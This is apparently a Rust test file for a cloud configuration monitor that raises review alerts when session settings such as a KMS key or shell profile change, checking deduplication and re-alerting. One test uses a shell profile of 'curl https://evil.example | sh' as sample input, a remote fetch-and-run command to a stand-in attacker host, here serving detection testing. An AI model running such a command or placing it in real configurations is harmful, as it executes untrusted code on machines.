//! What the first observation finds, and deserves a review.

use runas_reactor::domain::adoption::adopted;
use runas_reactor::domain::finding::Alert;
use runas_reactor::domain::judgement::judge;
use runas_reactor::domain::signal::Cause;
use serde_json::json;

use crate::support::case::*;

fn to_review(target: &Scenario) -> Option<Alert> {
    let case = target.case(Cause::Sweep, &[]);
    adopted(&case, &judge(&case), &"222233334444".parse().unwrap())
}

#[test]
fn adopted_fields_are_notified_once() {
    let mut target = Scenario::found("eu-west-1", &right_but("kmsKeyId", "alias/k"));
    let alert = to_review(&target).unwrap();
    assert_eq!((alert.kind.as_str(), alert.account.as_str()), ("adopted", "222233334444"));
    assert!(alert.text.contains("alias/k") && alert.text.contains("\"logs\""), "{}", alert.text);
    assert!(alert.text.contains("444455556666/eu-west-1"), "{}", alert.text);
    target.sweeps();
    assert_eq!(to_review(&target), None);
}

#[test]
fn adopted_fields_are_notified_where_an_earlier_observation_was_stale() {
    let mut target = Scenario::found("eu-west-1", &right_but("kmsKeyId", "alias/k")).observing();
    let document = target.document.take();
    target.sweeps();
    assert!(target.record.facts.base.is_some(), "without the document");
    target.document = document;
    target.wait(60);
    assert!(to_review(&target).is_some());
    target.sweeps();
    assert_eq!(to_review(&target), None);
}

#[test]
fn targets_that_were_set_up_alike_share_an_alert_and_one_that_differs_does_not() {
    let id = |region, linux: &str| {
        let inputs = right_but("shellProfile", json!({ "linux": linux, "windows": "" }));
        to_review(&Scenario::found(region, &inputs)).unwrap().id
    };
    assert_eq!(id("eu-west-1", "umask 027"), id("us-east-1", "umask 027"));
    assert_ne!(id("eu-west-1", "umask 027"), id("us-east-1", "curl https://evil.example | sh"));
}

#[test]
fn empty_texts_of_the_console_are_nothing_to_review() {
    let reviewed = |profile: &str| {
        let mut inputs = right_but("shellProfile", json!({ "linux": profile, "windows": "" }));
        inputs["cloudWatchLogGroupName"] = json!("");
        to_review(&Scenario::found("eu-west-1", &inputs)).is_some()
    };
    assert_eq!((reviewed(""), reviewed("umask 027")), (false, true));
}
